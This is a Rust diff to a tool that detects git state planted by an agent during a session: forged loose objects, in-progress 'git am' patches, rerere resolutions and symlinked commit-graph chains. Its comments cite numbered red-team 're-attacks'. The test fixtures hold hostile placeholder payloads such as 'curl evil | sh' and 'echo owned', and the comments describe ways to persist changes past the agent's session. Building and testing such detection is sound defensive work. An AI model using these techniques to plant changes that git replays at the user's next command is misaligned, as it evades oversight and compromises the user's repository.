@@ -42,6 +42,8 @@ pub struct IndexSnapshot {
     /// out of the agent's reach): an object an earlier session made is the agents', not the
     /// user's history, whatever its age (the thirty-seventh re-attack's I12).
     history: Option<PathBuf>,
+    /// The `rr-cache` directories there at launch ([`IndexSnapshot::replayed_state`]).
+    rr_caches: Vec<PathBuf>,
 }
 
 struct Recorded {
@@ -59,6 +61,11 @@ struct Recorded {
     /// J2 staged a hook there). The repository's commits are looked through from its own
     /// worktree, not again from this one.
     elsewhere: bool,
+}
+
+/// Where git records conflict resolutions for the repository of `git_dir`.
+fn rr_cache(git_dir: &Path) -> PathBuf {
+    git::common_dir(git_dir).unwrap_or_else(|| git_dir.to_path_buf()).join("rr-cache")
 }
 
 /// The linked worktrees of the repository whose common git directory is `common`: each one's git
@@ -142,7 +149,13 @@ impl IndexSnapshot {
             launched: objects::launch_moment(),
             trusted: Vec::new(),
             history: None,
+            rr_caches: Vec::new(),
         };
+        snapshot.rr_caches = worktrees
+            .iter()
+            .map(|(git_dir, _)| rr_cache(git_dir))
+            .filter(|dir| std::fs::symlink_metadata(dir).is_ok())
+            .collect();
         let mut budget = git::INDEX_BYTES_PER_LOOK;
         for (git_dir, worktree) in worktrees {
             // Only those below the worktree (not the worktree itself, nor its git directory).
@@ -376,6 +389,44 @@ pub struct CachedTrees {
 }
 
 impl IndexSnapshot {
+    /// Git state made in the session that git acts on at the user's next command, for each of
+    /// `git_dirs`: a `git am` (or an `--apply` rebase) in progress, `rebase-apply/`, whose
+    /// patches `am --continue` applies; and conflict resolutions recorded for rerere,
+    /// `rr-cache/`, which the next conflicting merge writes into the worktree (the directory's
+    /// mere existence turns rerere on): the fortieth re-attack's L4 and L5. Each made or changed
+    /// in the session, whole (of an `rr-cache` there at launch, the entries changed).
+    pub fn replayed_state(&self, git_dirs: &[PathBuf]) -> Vec<PathBuf> {
+        let changed = |path: &Path| {
+            objects::changed_since(path, self.launched)
+                || std::fs::read_dir(path)
+                    .into_iter()
+                    .flatten()
+                    .flatten()
+                    .take(10_000)
+                    .any(|entry| objects::changed_since(&entry.path(), self.launched))
+        };
+        let mut found = Vec::new();
+        for git_dir in git_dirs {
+            let applying = git_dir.join("rebase-apply");
+            if std::fs::symlink_metadata(&applying).is_ok() && changed(&applying) {
+                found.push(applying);
+            }
+            let resolutions = rr_cache(git_dir);
+            if std::fs::symlink_metadata(&resolutions).is_err() {
+                continue;
+            }
+            if !self.rr_caches.contains(&resolutions) || !resolutions.is_dir() {
+                found.push(resolutions);
+                continue;
+            }
+            let entries = std::fs::read_dir(&resolutions).into_iter().flatten().flatten().take(10_000);
+            found.extend(entries.map(|entry| entry.path()).filter(|entry| changed(entry)));
+        }
+        found.sort();
+        found.dedup();
+        found
+    }
+
     /// Removes the commit graph in `info` (an object directory's), and its chain, when written
     /// in the session.
     fn remove_commit_graphs(&self, info: &Path) {
@@ -390,8 +441,16 @@ impl IndexSnapshot {
                 .flatten()
                 .take(10_000)
                 .any(|entry| objects::changed_since(&entry.path(), self.launched));
-        if chain_changed && std::fs::symlink_metadata(&chain).is_ok_and(|metadata| metadata.is_dir()) {
-            let _ = std::fs::remove_dir_all(&chain);
+        // A link there (to a chain of the agent's anywhere: the fortieth re-attack's L3) is not
+        // what git makes: the link goes, not what it leads to.
+        match std::fs::symlink_metadata(&chain) {
+            Ok(metadata) if metadata.is_symlink() => {
+                let _ = std::fs::remove_file(&chain);
+            }
+            Ok(metadata) if chain_changed && metadata.is_dir() => {
+                let _ = std::fs::remove_dir_all(&chain);
+            }
+            _ => {}
         }
     }
 
@@ -654,8 +713,12 @@ mod objects {
     enum Inflated {
         /// Its kind, git's name for what it holds, and its body when a commit.
         Object { kind: Vec<u8>, name: Vec<u8>, body: Vec<u8> },
-        /// It does not inflate, or its header does not say its size: git cannot read it either.
+        /// It does not inflate, its header does not say its size, or it inflates to another size:
+        /// not what git writes, though git's streaming reader (checkout's) takes what it holds
+        /// whatever the header says (the fortieth re-attack's L1, L12).
         Broken,
+        /// It could not be opened (gone since it was listed).
+        Unreadable,
         /// More than [`MAX_CHECKED_BYTES`] inflated.
         TooLarge,
     }
@@ -838,10 +901,15 @@ mod objects {
                     let Ok(id) = hex::decode(format!("{prefix}{}", rest.to_string_lossy())) else { continue };
                     // Inflated whole, in a stream, and held against its name: git takes a loose
                     // object for what its name says without checking (K1 rewrote the user's in
-                    // place). One that does not inflate git cannot read either.
+                    // place). One that is not an object as git writes one is taken for forged
+                    // too: git's checkout streams what it holds past or short of its header.
                     let (kind, name, body) = match inflate(&path, self.hash_len) {
                         Inflated::Object { kind, name, body } => (kind, name, body),
-                        Inflated::Broken => continue,
+                        Inflated::Unreadable => continue,
+                        Inflated::Broken => {
+                            forged.push(path);
+                            continue;
+                        }
                         Inflated::TooLarge => {
                             unchecked.push(path);
                             continue;
@@ -943,7 +1011,7 @@ mod objects {
     /// kept (at most [`MAX_OBJECT_BYTES`]).
     fn inflate(path: &Path, hash_len: usize) -> Inflated {
         use std::io::BufRead as _;
-        let Ok(file) = std::fs::File::open(path) else { return Inflated::Broken };
+        let Ok(file) = std::fs::File::open(path) else { return Inflated::Unreadable };
         let decoder = flate2::read::ZlibDecoder::new(std::io::BufReader::new(file));
         let mut reader = std::io::BufReader::with_capacity(1 << 16, decoder.take(MAX_CHECKED_BYTES + 64));
         let mut header = Vec::new();
@@ -1355,10 +1423,27 @@ mod tests {
         std::fs::rename(&forged, &file).unwrap();
         assert!(git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap().contains("curl evil"), "git takes it");
         assert_eq!(snapshot.hidden().forged_objects, vec![file.clone()]);
-        // One that does not inflate git cannot read either: left to git's own error.
-        std::fs::create_dir_all(repo.join(".git/objects/ab")).unwrap();
-        std::fs::write(repo.join(".git/objects/ab/cdef0123456789abcdef0123456789abcdef01"), b"not zlib").unwrap();
-        assert_eq!(snapshot.hidden().forged_objects, vec![file]);
+        // One that is not an object as git writes one: its stream longer than its header says
+        // (git's checkout streams it all: the fortieth re-attack's L1), shorter (L12), or not
+        // zlib at all.
+        let id = git_out(&repo, &["rev-parse", "HEAD:README"], &[]).unwrap();
+        let readme = repo.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
+        let original = git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap() + "\n";
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(format!("blob {}\0{original}echo owned\n", original.len()).as_bytes()).unwrap();
+        std::fs::write(&forged, encoder.finish().unwrap()).unwrap();
+        std::fs::rename(&forged, &readme).unwrap();
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(b"blob 100\0short").unwrap();
+        let short = repo.join(".git/objects/cd/ef0123456789abcdef0123456789abcdef0123");
+        std::fs::create_dir_all(short.parent().unwrap()).unwrap();
+        std::fs::write(&short, encoder.finish().unwrap()).unwrap();
+        let not_zlib = repo.join(".git/objects/ab/cdef0123456789abcdef0123456789abcdef01");
+        std::fs::create_dir_all(not_zlib.parent().unwrap()).unwrap();
+        std::fs::write(&not_zlib, b"not zlib").unwrap();
+        let mut all = vec![file, readme, short, not_zlib];
+        all.sort();
+        assert_eq!(snapshot.hidden().forged_objects, all);
     }
 
     /// The thirty-eighth re-attack's J5: a commit graph written in the session (a cache git reads
@@ -1383,6 +1468,14 @@ mod tests {
         assert!(repo.join(".git/objects/info/commit-graphs/commit-graph-chain").exists());
         snapshot.drop_caches();
         assert!(!repo.join(".git/objects/info/commit-graphs").exists(), "a chain of them too");
+        // A chain made a link to one elsewhere (the fortieth re-attack's L3): the link goes.
+        assert!(git(&repo, &["commit-graph", "write", "--reachable", "--split=no-merge"]));
+        let elsewhere = repo.join(".git/graphs");
+        std::fs::rename(repo.join(".git/objects/info/commit-graphs"), &elsewhere).unwrap();
+        std::os::unix::fs::symlink(&elsewhere, repo.join(".git/objects/info/commit-graphs")).unwrap();
+        assert!(repo.join(".git/objects/info/commit-graphs/commit-graph-chain").exists());
+        snapshot.drop_caches();
+        assert!(std::fs::symlink_metadata(repo.join(".git/objects/info/commit-graphs")).is_err());
         assert_eq!(git_out(&repo, &["log", "--oneline"], &[]).unwrap().lines().count(), 2, "git works without it");
     }
 
@@ -1427,6 +1520,34 @@ mod tests {
         assert!(git(&lender, &["commit-graph", "write", "--reachable"]));
         snapshot.drop_caches();
         assert!(!graph.exists(), "written in the session, where the repository reads it");
+    }
+
+    /// The fortieth re-attack's L4 and L5: a `git am` left in progress with the agent's patches,
+    /// and conflict resolutions recorded for rerere (whose directory's existence turns it on), are
+    /// git's to apply at the user's next `am --continue` or conflicting merge. Made or changed in
+    /// the session, they are named for moving aside; of an `rr-cache` there at launch, only the
+    /// entries changed.
+    #[test]
+    fn git_state_that_replays_the_agents_changes_is_named() {
+        let Some((_temp, repo)) = repository() else { return };
+        let git_dir = repo.join(".git");
+        std::fs::create_dir_all(git_dir.join("rr-cache/users")).unwrap();
+        std::fs::write(git_dir.join("rr-cache/users/postimage"), "mine\n").unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(git_dir.clone(), repo.clone())], &[]);
+        assert_eq!(snapshot.replayed_state(std::slice::from_ref(&git_dir)), Vec::<PathBuf>::new());
+        std::fs::create_dir_all(git_dir.join("rebase-apply")).unwrap();
+        std::fs::write(git_dir.join("rebase-apply/0002"), "diff --git a/githooks/pre-commit ...\n").unwrap();
+        std::fs::create_dir_all(git_dir.join("rr-cache/agents")).unwrap();
+        std::fs::write(git_dir.join("rr-cache/agents/postimage"), "curl evil | sh\n").unwrap();
+        let named = snapshot.replayed_state(std::slice::from_ref(&git_dir));
+        assert_eq!(named, vec![git_dir.join("rebase-apply"), git_dir.join("rr-cache/agents")]);
+        // An `rr-cache` not there at launch (its existence alone turns rerere on): all of it.
+        std::fs::remove_dir_all(git_dir.join("rr-cache")).unwrap();
+        std::fs::remove_dir_all(git_dir.join("rebase-apply")).unwrap();
+        let snapshot = IndexSnapshot::take(&[(git_dir.clone(), repo.clone())], &[]);
+        std::fs::create_dir_all(git_dir.join("rr-cache")).unwrap();
+        assert_eq!(snapshot.replayed_state(std::slice::from_ref(&git_dir)), vec![git_dir.join("rr-cache")]);
     }
 
     /// A tree object written as given, as `git hash-object -t tree --literally` writes what git's
